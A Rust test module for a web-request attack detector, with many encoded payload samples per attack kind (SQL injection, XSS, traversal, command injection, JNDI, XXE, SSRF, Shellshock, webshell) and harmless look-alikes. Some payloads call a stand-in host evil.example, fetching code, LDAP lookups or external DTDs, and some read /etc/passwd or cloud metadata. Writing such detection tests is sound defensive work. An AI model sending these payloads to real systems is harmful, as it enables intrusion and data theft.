//! Firing cases of each kind and their innocent twins.

use super::Where::{Path, Query, Referer, UserAgent};
use super::{Judge, Payloads, Where};

/// A kind, the field, the raw text that shows it.
pub(super) const FIRING: &[(Payloads, Where, &str)] = &[
    (Payloads::SQLI, Query, "id=7%20union%20select%20null,version(),3"),
    (Payloads::SQLI, Query, "id=7/**/UnIoN/*x*/aLL/**/SeLeCt/**/1,2,3"),
    (Payloads::SQLI, Query, "id=7%2520union%2520select%25201%252C2"),
    (Payloads::SQLI, Query, "id=7+/*!50000union*/+/*!50000select*/+1,2"),
    (Payloads::SQLI, Query, "user=admin%27--+-"),
    (Payloads::SQLI, Query, "user=x%27+OR+%27a%27%3D%27a"),
    (Payloads::SQLI, Query, "n=5+and+7=7"),
    (Payloads::SQLI, Query, "n=5'%20aNd%20sleep(9)--%20z"),
    (Payloads::SQLI, Query, "n=5;waitfor%20delay%20'0:0:7'--"),
    (Payloads::SQLI, Query, "n=1;%20drop%20table%20members--"),
    (Payloads::SQLI, Query, "n=(select(0)from(select(sleep(3)))q)"),
    (Payloads::SQLI, Query, "n=1%27%20and%20extractvalue(1,concat(0x5c,version()))--%20"),
    (Payloads::SQLI, Path, "/item/3'%20union%20select%201,2,3--%20"),
    (Payloads::SQLI, UserAgent, "Mozilla/5.0' AND (SELECT 1 FROM (SELECT(SLEEP(4)))x) AND 'a'='a"),
    (Payloads::SQLI, Referer, "https://example.org/a?id=2%27%20or%203%3D3%23"),
    (Payloads::XSS, Query, "q=%3Cscript%3Eprompt(7)%3C/script%3E"),
    (Payloads::XSS, Query, "q=%253Csvg%252Fonload%253Dconfirm(2)%253E"),
    (Payloads::XSS, Query, "q=\"><iMg src=q OnErRoR=alert(7)>"),
    (Payloads::XSS, Query, "q=&lt;iframe%20src=//evil.example&gt;"),
    (Payloads::XSS, Query, "next=java%0ascript:alert(3)"),
    (Payloads::XSS, Query, "q=%u003cscript%u003ealert(9)%u003c/script%u003e"),
    (Payloads::XSS, Query, "d=PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg=="),
    (Payloads::XSS, Path, "/search/%3Cscript%3Ealert(4)%3C%2Fscript%3E"),
    (Payloads::XSS, UserAgent, "<script src=//evil.example/a.js></script>"),
    (Payloads::TRAVERSAL, Query, "f=../../../../etc/passwd"),
    (Payloads::TRAVERSAL, Query, "f=..%252f..%252f..%252fboot.ini"),
    (Payloads::TRAVERSAL, Query, "f=....//....//....//etc/hosts"),
    (Payloads::TRAVERSAL, Query, "f=%c0%ae%c0%ae/%c0%ae%c0%ae/x"),
    (Payloads::TRAVERSAL, Query, "f=c:%5Cwindows%5Cwin.ini"),
    (Payloads::TRAVERSAL, Path, "/static/%2e%2e/%2e%2e/secret"),
    (Payloads::TRAVERSAL, Path, "/login.jsp/..;/admin/"),
    (Payloads::TRAVERSAL, Path, "/cgi-bin/.%2e/.%2e/etc/passwd"),
    (Payloads::TRAVERSAL, Query, "page=/proc/self/environ"),
    (Payloads::COMMAND, Query, "host=127.0.0.1;cat%20/etc/group"),
    (Payloads::COMMAND, Query, "host=a%7Cid"),
    (Payloads::COMMAND, Query, "host=$(wget%20http://evil.example/x)"),
    (Payloads::COMMAND, Query, "host=%60whoami%60"),
    (Payloads::COMMAND, Query, "host=a%2526%2526ping%2520-c%25204%2520evil.example"),
    (Payloads::COMMAND, Query, "host=x;cat${IFS}/etc/hosts"),
    (Payloads::COMMAND, Path, "/cgi-bin/a/bin/sh"),
    (Payloads::CODE, Query, "p=php://filter/convert.base64-encode/resource=index.php"),
    (Payloads::CODE, Query, "p=%3C?php%20system($_GET[c]);?%3E"),
    (Payloads::CODE, Query, "o=O:7:%22Example%22:1:%7Bs:1:%22a%22;i:1;%7D"),
    (Payloads::CODE, Query, "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    (Payloads::CODE, Query, "s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array"),
    (Payloads::CODE, Query, "q=__import__('os').popen('id').read()"),
    (Payloads::CODE, Query, "class.module.classLoader.resources.context.parent.x=1"),
    (Payloads::CODE, Path, "/lib/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    (Payloads::TEMPLATE, Query, "name=%7B%7B8*9%7D%7D"),
    (Payloads::TEMPLATE, Query, "name=$%7B12*12%7D"),
    (Payloads::TEMPLATE, Query, "name={{''.__class__.__mro__}}"),
    (Payloads::TEMPLATE, Query, "name=<%25=%206*6%20%25>"),
    (Payloads::TEMPLATE, Query, "redirect:$%7B%23a%3d1%7D"),
    (Payloads::TEMPLATE, Path, "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/"),
    (Payloads::JNDI, Query, "q=$%7Bjndi:ldap://evil.example/a%7D"),
    (Payloads::JNDI, UserAgent, "${jndi:dns://evil.example/b}"),
    (Payloads::JNDI, Referer, "${${lower:j}ndi:${lower:l}dap://evil.example/c}"),
    (Payloads::JNDI, Query, "q=%24%7b%24%7b::-j%7dndi:rmi://evil.example/d%7d"),
    (Payloads::JNDI, Path, "/%2524%257Bjndi:ldap://evil.example/e%257D"),
    (Payloads::JNDI, UserAgent, "${${env:X:-j}n${env:Y:-d}i:ldap://evil.example/f}"),
    (Payloads::INCLUDE, Query, "page=http://evil.example/c99.txt?"),
    (Payloads::INCLUDE, Query, "include_path=https%3A%2F%2Fevil.example%2Fx.txt%3F%3F"),
    (Payloads::INCLUDE, Query, "url=http://169.254.169.254/latest/meta-data/"),
    (Payloads::INCLUDE, Query, "url=http%3A%2F%2F127.0.0.1%3A6379%2F"),
    (Payloads::INCLUDE, Query, "u=gopher://127.0.0.1:25/_HELO"),
    (Payloads::INCLUDE, Query, "src=http://[::1]/admin"),
    (
        Payloads::XML,
        Query,
        "x=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20b%20SYSTEM%20%22file:///etc/hosts%22%3E%5D%3E",
    ),
    (Payloads::XML, Query, "x=<!ENTITY+%25+p+SYSTEM+'http://evil.example/p.dtd'>"),
    (
        Payloads::XML,
        Query,
        "x=%253C!DOCTYPE%2520q%2520SYSTEM%2520%2522http://evil.example/q.dtd%2522%253E",
    ),
    (Payloads::XML, Query, "x=%3Cxi:include%20href=%22file:///etc/hosts%22/%3E"),
    (Payloads::XML, Query, "x=<?XML+version='1.0'?><!DocType+a+[<!entity+b+'c'>]>"),
    (Payloads::NOSQL, Query, "username[$ne]=x&password[$ne]=x"),
    (Payloads::NOSQL, Query, "login%5B%24regex%5D=.*"),
    (Payloads::NOSQL, Query, "q=%7B%22%24gt%22%3A%22%22%7D"),
    (Payloads::NOSQL, Query, "q=%7B%22%24where%22%3A%22sleep(100)%22%7D"),
    (Payloads::NOSQL, Query, "q=a%27%7C%7C%271%27==%271"),
    (Payloads::LDAP, Query, "user=*)(uid=*))(%7C(uid=*"),
    (Payloads::LDAP, Query, "user=admin)(%26)"),
    (Payloads::LDAP, Query, "user=*%29%28objectClass%3D*"),
    (Payloads::LDAP, Query, "user=x)(%7C(password=*)"),
    (Payloads::LDAP, Query, "user=a%2529%2528cn%253D*"),
    (Payloads::CRLF, Query, "r=/a%0d%0aSet-Cookie:%20a=b"),
    (Payloads::CRLF, Query, "r=%250d%250aLocation:%20https://evil.example/"),
    (Payloads::CRLF, Path, "/%0d%0aX-Injected:%201"),
    (Payloads::CRLF, Query, "r=a%0AContent-Type:%20text/html%0A%0Ahi"),
    (Payloads::CRLF, Query, "r=%E5%98%8A%E5%98%8DSet-Cookie:a"),
    (Payloads::SCANNER, UserAgent, "sqlmap/1.8#stable (https://sqlmap.org)"),
    (Payloads::SCANNER, UserAgent, "Mozilla/5.0 (Nikto/2.5.0)"),
    (Payloads::SCANNER, UserAgent, "Mozilla/5.0 zgrab/0.x"),
    (Payloads::SCANNER, UserAgent, "gobuster/3.6"),
    (Payloads::SCANNER, Path, "/acunetix-wvs-test-for-some-inexistent-file"),
    (Payloads::SCANNER, Query, "u=http://abc123.oast.fun/"),
    (Payloads::SHELLSHOCK, UserAgent, "() { :;}; /bin/ping -c 1 evil.example"),
    (Payloads::SHELLSHOCK, Referer, "() { ignored; }; echo x"),
    (Payloads::SHELLSHOCK, Query, "q=()%20%7B%20x;%7D;echo"),
    (Payloads::SHELLSHOCK, UserAgent, "() { _; } >_[$($())] { id; }"),
    (Payloads::SHELLSHOCK, Path, "/cgi-bin/a()%20%7B%20:;%20%7D"),
    (Payloads::WEBSHELL, Query, "cmd=whoami"),
    (Payloads::WEBSHELL, Query, "a=1&exec=cat+/etc/hosts"),
    (Payloads::WEBSHELL, Query, "CMD=uname%20-a"),
    (Payloads::WEBSHELL, Query, "c=net%20user"),
    (Payloads::WEBSHELL, Query, "dwn=a.zip&fn=b"),
    (Payloads::WEBSHELL, Path, "/uploads/c99shell.php"),
];

/// The kind it resembles, the field, the raw text.
pub(super) const INNOCENT: &[(Payloads, Where, &str)] = &[
    (Payloads::SQLI, Query, "q=the+union+may+select+its+members"),
    (Payloads::SQLI, Query, "name=Conan+O%27Brien+and+Andy"),
    (Payloads::SQLI, Query, "q=5+and+7+make+12"),
    (Payloads::SQLI, Query, "q=drop+table+and+bench"),
    (Payloads::SQLI, Query, "q=24%22+or+27%22+screen"),
    (Payloads::SQLI, UserAgent, "Mozilla/5.0 (compatible; select; like Gecko)"),
    (Payloads::XSS, Query, "q=a+%3C+b+and+b+%3E+c"),
    (Payloads::XSS, Query, "q=%3Cb%3Ebold%3C/b%3E"),
    (Payloads::XSS, Query, "q=javascript:void(0)"),
    (Payloads::XSS, Path, "/docs/javascript-alert-box"),
    (Payloads::XSS, Query, "onclick=menu&alert=on"),
    (Payloads::TRAVERSAL, Query, "back=../list.php"),
    (Payloads::TRAVERSAL, Path, "/a/b/../c.css"),
    (Payloads::TRAVERSAL, Path, "/docs/etc/passwd-file-format"),
    (Payloads::TRAVERSAL, Query, "range=1...10"),
    (Payloads::TRAVERSAL, Query, "f=docs/2024/report.pdf"),
    (Payloads::COMMAND, Query, "q=cats;dogs;birds"),
    (Payloads::COMMAND, Query, "a=1;id=5;ls=2"),
    (Payloads::COMMAND, Query, "q=salt+%26+pepper+cat+food"),
    (Payloads::COMMAND, Query, "q=echo+show+%7C+alexa"),
    (Payloads::COMMAND, Path, "/docs/bin/bash-tutorial"),
    (Payloads::CODE, Query, "q=php+system+requirements"),
    (Payloads::CODE, Query, "img=data:image/gif;base64,R0lGODlhAQABAAAAACw="),
    (Payloads::CODE, Query, "q=java.lang.OutOfMemoryError"),
    (Payloads::CODE, Path, "/learn/python/import-os"),
    (Payloads::CODE, Query, "q=evaluate(x)+and+execute"),
    (Payloads::TEMPLATE, Query, "q=%7B%7Bname%7D%7D"),
    (Payloads::TEMPLATE, Query, "q=$%7Btitle%7D"),
    (Payloads::TEMPLATE, Query, "q=%7B7%7D+*+%7B7%7D"),
    (Payloads::TEMPLATE, Query, "q=8*9"),
    (Payloads::TEMPLATE, Query, "q=%23%7Bid%7D"),
    (Payloads::JNDI, Query, "q=jndi+lookup+tomcat"),
    (Payloads::JNDI, Query, "q=log4j+jndi+vulnerability"),
    (Payloads::JNDI, Query, "dn=ldap://directory.example.org/o=a"),
    (Payloads::JNDI, Path, "/docs/jndi/ldap.html"),
    (Payloads::JNDI, Query, "v=$%7Bproject.id%7D"),
    (Payloads::INCLUDE, Query, "redirect_uri=http://localhost:7777/cb"),
    (Payloads::INCLUDE, Query, "url=https://example.org/page.html"),
    (Payloads::INCLUDE, Query, "image=https://example.org/a.jpg"),
    (Payloads::INCLUDE, Query, "ip=127.0.0.1"),
    (Payloads::INCLUDE, Referer, "http://localhost:3000/?page=2"),
    (Payloads::XML, Query, "x=%3Ca%3E1%3C/a%3E"),
    (Payloads::XML, Query, "q=xml+entity+system+id"),
    (Payloads::XML, Query, "q=doctype+declaration"),
    (Payloads::XML, Query, "x=%3C?xml%20version=%221.0%22?%3E%3Ca/%3E"),
    (Payloads::XML, Path, "/docs/xinclude.xml"),
    (Payloads::NOSQL, Query, "age[$gte]=18"),
    (Payloads::NOSQL, Query, "filters[name][$eq]=a"),
    (Payloads::NOSQL, Query, "q=%7B%22price%22%3A%7B%22%24lt%22%3A50%7D%7D"),
    (Payloads::NOSQL, Query, "$where2=1"),
    (Payloads::NOSQL, Query, "price=$5"),
    (Payloads::LDAP, Query, "q=f(x)(y)"),
    (Payloads::LDAP, Query, "q=(a+or+b)(c)"),
    (Payloads::LDAP, Query, "q=*.txt"),
    (Payloads::LDAP, Query, "dn=cn%3DJohn%2Cou%3Dpeople"),
    (Payloads::LDAP, Query, "q=(note+1)"),
    (Payloads::CRLF, Query, "t=Hello%0D%0AWorld"),
    (Payloads::CRLF, Query, "t=Location:%20Kyoto"),
    (Payloads::CRLF, Query, "t=a%0ALocation:%20Kyoto"),
    (Payloads::CRLF, Query, "t=1%0D%0A2%0D%0A3"),
    (Payloads::CRLF, Query, "t=note%0A%0A-%20one"),
    (
        Payloads::SCANNER,
        UserAgent,
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ),
    (Payloads::SCANNER, UserAgent, "curl/8.5.0"),
    (Payloads::SCANNER, UserAgent, "Barcode Scanner/2.1 CFNetwork/1490"),
    (Payloads::SCANNER, UserAgent, "python-requests/2.31.0"),
    (Payloads::SCANNER, Path, "/shop/flatbed-scanner"),
    (Payloads::SHELLSHOCK, UserAgent, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"),
    (Payloads::SHELLSHOCK, Query, "q=f()"),
    (Payloads::SHELLSHOCK, Query, "q=shellshock+bug"),
    (Payloads::SHELLSHOCK, Query, "q=%7B%7D"),
    (Payloads::SHELLSHOCK, Path, "/list()/all"),
    (Payloads::WEBSHELL, Query, "cmd=ls&target=l1_Lw"),
    (Payloads::WEBSHELL, Query, "cmd=search&id=4"),
    (Payloads::WEBSHELL, Query, "command=save"),
    (Payloads::WEBSHELL, Query, "exec=idea"),
    (Payloads::WEBSHELL, Path, "/beach/shells.html"),
];

#[test]
fn each_kind_fires() {
    let judge = Judge::new();
    for (kind, field, raw) in FIRING {
        let found = judge.judge(*field, raw.as_bytes());
        assert!(found.contains(*kind), "{raw}: {:?}", found.names().collect::<Vec<_>>());
    }
}

#[test]
fn innocent_twins_do_not() {
    let judge = Judge::new();
    for (_, field, raw) in INNOCENT {
        let found = judge.explain(*field, raw.as_bytes());
        assert_eq!(found, None, "{raw}");
    }
}

#[test]
fn each_kind_has_five_of_both() {
    for kind in Payloads::from_bits(u16::MAX).iter() {
        let name = kind.names().next().unwrap_or_default();
        assert!(FIRING.iter().filter(|case| case.0 == kind).count() >= 5, "{name}");
        assert!(INNOCENT.iter().filter(|case| case.0 == kind).count() >= 5, "{name}");
    }
}

#[test]
fn explains_where_and_what() {
    let judge = Judge::new();
    let raw = "page=2&id=7%2520union%2520select%25201%252C2&x=1";
    let found = judge.explain(Query, raw.as_bytes()).unwrap();
    assert_eq!(&raw[found.raw.clone()], "7%2520union%2520select%2520");
    assert_eq!(found.decoded, "7 union select");
    assert_eq!(found.rounds, 2);
    assert_eq!(found.kinds, Payloads::SQLI);
}

#[test]
fn escapes_of_the_logs_are_undone() {
    let judge = Judge::new();
    for raw in [r#"q=\"><script>alert(1)</script>"#, r"q=\x22><script>alert(1)</script>"] {
        assert!(judge.judge(Query, raw.as_bytes()).contains(Payloads::XSS), "{raw}");
    }
}
